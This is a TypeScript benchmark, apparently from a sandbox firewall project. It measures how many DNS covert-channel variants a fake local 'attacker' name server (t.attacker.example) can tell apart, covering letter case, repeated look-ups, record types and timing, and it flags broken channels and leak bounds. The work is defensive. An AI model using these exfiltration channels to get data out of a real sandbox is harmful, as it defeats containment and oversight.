import { createSocket } from 'node:dgram'
import { connect } from 'node:net'
import { Packet } from 'dns2'
import { query } from '#dns/fixtures.js'
import { NAME_PROFILES } from '#firewall/names/name-profiles.js'
import { leakBoundBits } from '#firewall/ledger/leak-bound.js'
import { startWorker } from './workers/processes.js'
import { table } from './workers/statistics.js'

// What an attacker's name server can tell apart, one sender for each channel: each does one thing in many ways, and the bench
// counts how many of them look different from outside. `bench:dns-exfiltration` measures the names themselves.

const DOMAIN = 't.attacker.example'

interface Seen {
  readonly at: number
  readonly name: string
  readonly type: number
}

interface Ports {
  readonly dns: number
  readonly http: number
}

/** Answers every name, and keeps when and how it was asked. */
async function startServer(): Promise<{ port: number; seen: Seen[]; close(): void }> {
  const socket = createSocket('udp4')
  const seen: Seen[] = []
  socket.on('message', (message, peer) => {
    const asked = Packet.parse(message)
    const [question] = asked.questions
    if (question === undefined) return
    seen.push({ at: Date.now(), name: question.name, type: question.type })
    const response = Packet.createResponseFromRequest(asked)
    if (question.type === Packet.TYPE.A)
      response.answers.push(Packet.createResourceFromQuestion(question, { address: '127.0.0.1', ttl: 0 }))
    socket.send(response.toBuffer(), peer.port, peer.address)
  })
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve))
  return { port: socket.address().port, seen, close: () => socket.close() }
}

function request(port: number, host: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`, 'latin1')
    })
    socket.on('data', () => undefined).on('error', () => undefined)
    socket.once('close', () => resolve())
  })
}

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))

function randomCase(text: string): string {
  return text.replace(/[a-z]/g, (char) => (Math.random() < 0.5 ? char.toUpperCase() : char))
}

/** A channel: what is sent, how many messages that could be, and how many of them the server could tell apart. */
interface Channel {
  readonly name: string
  readonly sent: number
  readonly most: number
  send(ports: Ports): Promise<void>
  told(seen: readonly Seen[]): number
}

const lookUps = (seen: readonly Seen[]) => seen.filter(({ type }) => type === Packet.TYPE.A)

const CHANNELS: readonly Channel[] = [
  {
    name: 'letter case of one name (spellings)',
    sent: 50,
    most: 1,
    async send({ http }) {
      for (let i = 0; i < 50; i += 1) await request(http, randomCase(`same-name.${DOMAIN}`))
    },
    told: (seen) => new Set(seen.map(({ name }) => name)).size,
  },
  {
    name: 'one name again and again (look-ups)',
    sent: 200,
    most: 1,
    async send({ http }) {
      for (let i = 0; i < 200; i += 1) await request(http, `again.${DOMAIN}`)
    },
    told: (seen) => lookUps(seen).length,
  },
  {
    name: 'names that are resolved and never used (look-ups)',
    sent: 16,
    most: 0,
    async send({ dns }) {
      const socket = createSocket('udp4')
      for (let i = 0; i < 16; i += 1) {
        socket.send(query(`n${String(i)}.${DOMAIN}`), dns, '127.0.0.1')
        await sleep(5)
      }
      await sleep(1_500)
      socket.close()
    },
    told: (seen) => seen.length,
  },
  {
    name: 'record types (sets of types per name)',
    sent: 8,
    most: 1,
    async send({ dns, http }) {
      const socket = createSocket('udp4')
      for (const [i, type] of [1, 28, 16, 15, 65, 33, 5, 255].entries()) {
        socket.send(query(`t${String(i)}.${DOMAIN}`, { type }), dns, '127.0.0.1')
        await request(http, `t${String(i)}.${DOMAIN}`)
      }
      socket.close()
    },
    told(seen) {
      const types = new Map<string, Set<number>>()
      for (const { name, type } of seen) types.set(name, (types.get(name) ?? new Set()).add(type))
      return new Set([...types.values()].map((set) => [...set].sort((a, b) => a - b).join())).size
    },
  },
  {
    name: 'the moment within a second (tenths that are told apart)',
    sent: 10,
    most: 2,
    async send({ http }) {
      for (let i = 0; i < 10; i += 1) {
        await sleep(1_000 - (Date.now() % 1_000) + i * 100)
        await request(http, `m${String(i)}.${DOMAIN}`)
      }
    },
    told: (seen) => new Set(lookUps(seen).map(({ at }) => Math.floor((at % 1_000) / 100))).size,
  },
]

const rows: string[][] = []
let isBroken = false
for (const channel of CHANNELS) {
  const { name, sent, most } = channel
  const server = await startServer()
  const policy = `dns: { rate: { per_second: 100000, burst: 100000 } }
upstream: { servers: ["127.0.0.1:${String(server.port)}"] }
allow:
  - { host: "**.${DOMAIN}", scheme: http, allow_private_addresses: true }
`
  const gateway = await startWorker<Ports>('dns-exfiltration-gateway', [policy, '0'])
  await channel.send(gateway.ready)
  await gateway.stop()
  server.close()
  const count = channel.told(server.seen)
  const isOver = count > most
  isBroken ||= isOver
  rows.push([name, String(sent), `${String(count)}${isOver ? ' BROKEN' : ''}`, String(most)])
}
process.stdout.write(
  "What a sandbox does in different ways, and what an attacker's name server can tell apart\n",
)
process.stdout.write(table(['', 'sent', 'told apart', 'at most'], rows))
const bounds = Object.entries(NAME_PROFILES).map(([profile, { budget }]) => [
  profile,
  String(leakBoundBits(budget)),
])
process.stdout.write('\nUpper bound for one sandbox and one wildcard\n')
process.stdout.write(table(['', 'bits a day'], bounds))
process.exit(isBroken ? 1 : 0)
